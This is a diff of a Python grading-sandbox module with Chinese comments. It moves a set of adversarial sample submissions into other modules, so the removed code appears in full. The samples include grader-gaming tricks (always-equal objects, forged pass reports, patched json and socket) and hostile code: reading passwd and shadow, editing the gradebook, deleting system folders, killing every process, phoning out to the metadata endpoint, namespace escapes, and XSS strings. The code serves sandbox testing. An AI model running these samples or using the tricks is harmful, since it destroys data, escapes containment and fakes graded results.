@@ -1,8 +1,7 @@
-"""存心不良的答卷，和不巧的意外：样品班里的一部分，也是测试沙箱的靶子。
+"""不巧的意外，和文件上的手脚；存心不良的代码在 ``cheats``。样品班里的一部分，也是测试沙箱的靶子。
 
-``Cheat`` 是一段代码，放在答题格最前面，后面的函数什么也没有做：它不该得到一分。
-``Accident`` 也是一段代码，放在范例的函数里：它出了事，别的检查一分也不该少。
-都只在沙箱里运行。``forms`` 里的在文件的格式上做手脚，不必运行就该看穿。
+``Accident`` 是一段代码，放在范例的函数里：它出了事，别的检查一分也不该少。只在沙箱里运行。
+``Form`` 在文件的格式上做手脚，不必运行就该看穿。
 """
 
 from __future__ import annotations
@@ -13,188 +12,12 @@ from collections.abc import Callable
 from dataclasses import dataclass
 from typing import Any
 
-__all__ = ["ACCIDENTS", "CHEATS", "FORMS", "Accident", "Cheat", "Form"]
+from sockscope.grading.attacks import ATTACKS
+from sockscope.grading.cheats import BODY, FORGERIES, Cheat
 
+__all__ = ["ACCIDENTS", "BODY", "CHEATS", "FORMS", "Accident", "Cheat", "Form"]
 
-@dataclass(frozen=True)
-class Cheat:
-    """想不做题就得分，或想伸出沙箱。``code`` 在装入答题格时运行（写成定义，因为别的语句不会执行）。"""
-
-    name: str
-    story: str
-    code: str
-
-
-CHEATS = [
-    Cheat("equal-to-everything", "返回一个与什么都相等的对象", """
-class Same:
-    __eq__ = lambda self, other: True
-    __ne__ = lambda self, other: False
-    __hash__ = lambda self: 0
-ANSWER = Same()
-"""),
-    Cheat("forged-report", "在控制管道上冒充 runner，说每一次都通过了", """
-import json, os
-def forge():
-    for fd in range(3, 64):
-        for line in ({"ready": True, "troubles": {}}, {"returned": {"value": True}}, {"status": "passed", "points": 100}):
-            try:
-                os.write(fd, (json.dumps(line) + "\\n").encode())
-            except OSError:
-                pass
-FORGED = forge()
-"""),
-    Cheat("patched-socket", "把 socket 换成自己的，好让测试在里面跑", """
-import socket as _s, sys
-class Fake:
-    def __init__(self, *a, **k): pass
-    def __getattr__(self, name): return lambda *a, **k: b""
-_s.socket = Fake
-sys.modules["socket"].create_connection = lambda *a, **k: Fake()
-"""),
-    Cheat("patched-json", "改掉 runner 用的 json 与 plain", """
-import sys, json
-class Lie(dict): pass
-json.dumps = lambda *a, **k: '{"returned": {"value": "passed"}}'
-main = sys.modules["__main__"]
-for name in ("plain", "describe", "attempt"):
-    SET = setattr(main, name, lambda *a, **k: {"value": True})
-"""),
-    Cheat("frames", "从调用栈和垃圾回收里找期望的答案", """
-import gc, sys
-def hunt():
-    found = []
-    frame = sys._getframe()
-    while frame:
-        found.append(repr(frame.f_locals)[:10000])
-        frame = frame.f_back
-    return found + [o for o in gc.get_objects() if isinstance(o, (bytes, dict))][:1000]
-FOUND = hunt()
-"""),
-    Cheat("read-solution", "在磁盘上找范例", """
-import os
-def search():
-    for root, folders, files in os.walk("/"):
-        if root.startswith(("/proc", "/sys")):
-            folders.clear()
-        for file in files:
-            if file.endswith((".ipynb", ".toml")) or file in ("gradebook.db", "seed", "passwd", "shadow", "lab05.py"):
-                yield os.path.join(root, file)
-import itertools
-FOUND = [print("found", path) for path in itertools.islice(search(), 50)]
-"""),
-    Cheat("edit-gradebook", "改成绩库", """
-import sqlite3, os, glob
-def edit():
-    for path in glob.glob("/**/gradebook.db", recursive=True) + ["gradebook.db", "../gradebook.db", "/exam/../gradebook.db"]:
-        try:
-            sqlite3.connect(path).execute("update grade set auto_score = 100")
-        except Exception as error:
-            print(error)
-DONE = edit()
-"""),
-    Cheat("other-submissions", "删掉别人的答卷", """
-import os, shutil
-def wipe():
-    for folder in ("/exam", "/exam/..", "/tmp", "/home", "/root", "/usr", "/etc", "/work"):
-        shutil.rmtree(folder, ignore_errors=True)
-GONE = wipe()
-"""),
-    Cheat("kill-everyone", "给看得见的每个进程发 SIGKILL", """
-import os, signal
-def kill():
-    for pid in [1, -1, os.getppid(), *range(2, 400)]:
-        if pid != os.getpid():
-            try:
-                os.kill(pid, signal.SIGKILL)
-            except OSError:
-                pass
-DONE = kill()
-"""),
-    Cheat("outlive", "分叉出一个后台进程，活得比考试久", """
-import os, signal, time
-def daemon():
-    if os.fork() == 0:
-        os.setsid()
-        if os.fork() == 0:
-            for name in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
-                signal.signal(name, signal.SIG_IGN)
-            for fd in range(64):
-                try:
-                    os.close(fd)
-                except OSError:
-                    pass
-            while True:
-                time.sleep(60)
-        os._exit(0)
-DONE = daemon()
-"""),
-    Cheat("phone-home", "连到外面去", """
-import socket
-def phone():
-    for address in (("1.1.1.1", 53), ("8.8.8.8", 443), ("127.0.0.1", 22), ("169.254.169.254", 80)):
-        try:
-            socket.create_connection(address, 0.2)
-            print("reached", address)
-        except OSError as error:
-            print(address, error)
-    for family in (40, 38, 17, 16, 31):
-        try:
-            socket.socket(family, socket.SOCK_STREAM)
-            print("reached", family)
-        except OSError:
-            pass
-DONE = phone()
-"""),
-    Cheat("new-namespace", "自己造一个用户命名空间，拿回 root", """
-import ctypes, os
-def escape():
-    libc = ctypes.CDLL(None)
-    print("unshare", libc.unshare(0x10000000), "mount", libc.mount(b"none", b"/exam", b"tmpfs", 0, None),
-          "ptrace", libc.ptrace(16, 1, 0, 0), "chroot", libc.chroot(b"/exam"), "uid", os.getuid() == 0)
-DONE = escape()
-"""),
-    Cheat("symlinks", "在考场文件夹里放符号链接、管道和奇怪的名字", """
-import os
-def plant():
-    for target, name in (("/etc/passwd", "passwd"), ("/run/docker.sock", "sock"), ("/", "root"), ("/proc/1/root", "up")):
-        try:
-            os.symlink(target, name)
-        except OSError:
-            pass
-    os.mkfifo("pipe")
-    open("\\u202e=cmd()\\n.txt", "w").close()
-DONE = plant()
-"""),
-    Cheat("flood", "没完没了地说话", """
-import os, threading
-def flood():
-    junk = b'{"returned": ' + b"[" * 100000 + b"\\n" + b"x" * 65536 + b"\\n"
-    for fd in (1, 2, 3, 4, 5, 6):
-        try:
-            for _ in range(400):
-                os.write(fd, junk)
-        except OSError:
-            pass
-DONE = threading.Thread(target=flood, daemon=True).start()
-"""),
-    Cheat("markup", "打印与抛出网页和终端的控制字符", """
-import sys
-EVIL = "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>]]>\\x1b]0;pwned\\x07\\x1b[2J\\u202e"
-SAID = print(EVIL, EVIL, file=sys.stderr)
-class Evil(Exception):
-    pass
-Evil.__name__ = EVIL
-"""),
-]
-
-BODY = """
-def {name}(*arguments, **options):
-    raise_it = globals().get("Evil")
-    if raise_it:
-        raise raise_it(globals()["EVIL"])
-    return globals().get("ANSWER", True)
-"""
+CHEATS = [*FORGERIES, *ATTACKS]
 
 
 @dataclass(frozen=True)
